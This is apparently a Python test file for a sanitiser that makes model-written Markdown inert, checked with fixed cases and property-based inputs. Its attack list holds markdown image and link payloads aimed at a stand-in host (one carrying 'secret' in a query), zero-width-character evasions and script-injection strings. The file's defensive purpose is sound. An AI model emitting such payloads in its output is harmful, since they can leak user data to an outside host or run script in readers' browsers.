"""Nothing that a model writes is active, whoever reads it as Markdown, and what it wrote stays readable."""

from __future__ import annotations

import pytest
from active_markdown import active
from hypothesis import given
from hypothesis import strategies as st

from modelops.rag.answering import safe_text

ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "[click](https://evil.example)",
    "[1](https://evil.example)",
    "[1]: https://evil.example\n\nSee [1].",
    "[a\nb]: https://evil.example\n\nSee [a b].",
    "> - [a]: https://evil.example\n\n[a]",
    "<https://evil.example>",
    "https://evil.example/a",
    "www.evil.example",
    "see\\`https://evil.example`",
    "`a`https://evil.example",
    "a ` b https://evil.example ` c `` d",
    "<img src=x onerror=alert(1)>",
    "\\<img src=x onerror=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<a\nhref='https://evil.example'>x</a>",
    "- a\n  ```\n![x](https://evil.example)",
    "> ```\n![x](https://evil.example)",
    "```\n```\n![x](https://evil.example)",
    "~~~ x\n```\n~~~\n![x](https://evil.example)",
    "````\n```\n![x](https://evil.example)\n````\n![y](https://evil.example)",
    "```mermaid\nclick A 'https://evil.example'\n```",
    "[x](javascript:alert(1))",
    "!\u200b[x](https://evil.example)",
    "<im\u200bg src=https://evil.example>",
    "![x]\u2063(https://evil.example)",
    "[^1]: https://evil.example\n\n[^1]",
    "|a|\n|-|\n|![x](https://evil.example)|",
    "![`](https://evil.example)`",
    "|a|b|\n|-|-|\n|`x|https://evil.example`|",
    "|a|b|\n|-|-|\n|`x|![y](https://evil.example)`|",
    "a|b\n-|-\n`x|<img src=x>`",
    "|a|b|\n|-|-|\n|`x|y` https://evil.example|",
    "|`x|![y](https://evil.example)`|\n|-|-|",
    "> |`x|![y](https://evil.example)`|\n> |-|-|",
    "- |`x|y` https://evil.example|\n  |-|-|",
    "|`x|![y](https://evil.example)`|\n|-|-|\n|-|-|\n|`x|<img src=x>`|",
    "[![x](https://evil.example/a.png)](https://evil.example)",
]


@pytest.mark.parametrize("written", ATTACKS)
def test_an_attack_is_shown_as_text(written: str) -> None:
    assert active(safe_text(written)) == []


def test_the_attacks_are_some() -> None:
    assert sum(bool(active(written)) for written in ATTACKS) > len(ATTACKS) / 2


PARTS = [
    "![",
    "[",
    "]",
    "](",
    "(",
    ")",
    "[a]",
    "[a]:",
    "[1]",
    "<",
    ">",
    "!",
    "`",
    "``",
    "```",
    "````",
    "~~~",
    "\\",
    "\n",
]
PARTS += [
    "\n\n",
    "\r",
    " ",
    "    ",
    "\t",
    "- ",
    "> ",
    "1. ",
    "# ",
    "|",
    "|-|",
    "https://e.example",
    "www.e.example",
    "/x",
]
PARTS += [
    "img src=x",
    "/a>",
    "!--",
    "-->",
    "a@e.example",
    "mailto:a@e.example",
    "&lt;",
    "&#60;",
    "*",
    "**",
    "_",
    "$",
    "ab",
]
PARTS += ["\u200b", "猫", ":", "[^a]", "[^a]:", "javascript:x", "'x'", '"x"', "http:", "//e.example"]


@given(st.lists(st.sampled_from(PARTS), max_size=40).map("".join))
def test_nothing_is_active_however_it_is_put_together(written: str) -> None:
    assert active(safe_text(written)) == []


@given(st.text(max_size=200))
def test_any_text_can_be_shown(written: str) -> None:
    assert active(safe_text(written)) == []


@pytest.mark.parametrize(
    "written",
    [
        "Cats sleep **most** of the day [1][2].\n\n- one\n- two `x[1]`\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "```\nif a <b and x[1](y): print('<img>', ![z](u))\n```\n",
        "It is 3 < 4 & 5 > 2, or a*b_c; see [1]: they say so.",
        "# Heading\n\n1. First\n2. Second\n\n> quoted",
        "It is `str | None` here.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nAnd `a|b` there.",
        "猫は眠る。[1] Größe, 10 €",
    ],
)
def test_harmless_markdown_stays_as_it_is(written: str) -> None:
    assert safe_text(written) == written


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See https://docs.example/a(b).", "See `https://docs.example/a(b`)."),
        ("Use List<String> here.", "Use List< String> here."),
        ("```python\nx\n```", "```\nx\n```"),
        ("```\nx", "```\nx\n```"),
        ("  ```\n  x\n  ```\ny", "```\n  x\n```\ny"),
        ("a ` b", "a ' b"),
        ("**Great![1]**", "**Great! [1]**"),
    ],
)
def test_what_is_broken_up_stays_readable(written: str, shown: str) -> None:
    assert safe_text(written) == shown
